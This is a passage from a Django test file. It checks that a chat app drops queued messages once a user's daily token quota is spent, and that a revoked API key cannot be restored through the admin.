    assert page.post(f"/sessions/{session.pk}/send/", {"text": "refused"}).content.decode().count("tokens for today")
    taken = TranscriptEvent.objects.filter(session=session, kind="message_taken").count()
    turns.finish_turn(session.pk, TurnEnd.DONE)
    assert TranscriptEvent.objects.filter(session=session, kind="message_taken").count() == taken, (
        "a queued message was taken after its author's quota was spent")
    # Each left the queue with a notice quoting it and giving the quota's sentence.
    assert TranscriptEvent.objects.filter(session=session, kind="message_dropped").count() == 5
    notices = [e.payload["message"] for e in TranscriptEvent.objects.filter(session=session, kind="notice")]
    assert sum("“queued 3” was not sent: You have used your 15 tokens for today" in n for n in notices) == 1


def test_a_revoked_key_cannot_be_brought_back_in_the_admin(alice, django_user_model):
    token = keys.create_key(alice, "leaked")[1]
    key = ApiKey.objects.get(user=alice)
    keys.revoke_key(alice, key.pk)
    revoked_at = ApiKey.objects.get(pk=key.pk).revoked_at
    root = logged_in(django_user_model.objects.create_superuser("root", password="root-password-1"))
    root.post(f"/admin/api_app/apikey/{key.pk}/change/", {"name": "leaked", "revoked_at_0": "", "revoked_at_1": ""})
    assert ApiKey.objects.get(pk=key.pk).revoked_at == revoked_at
    assert Client().get("/v1/models", **bearer(token)).status_code == 401
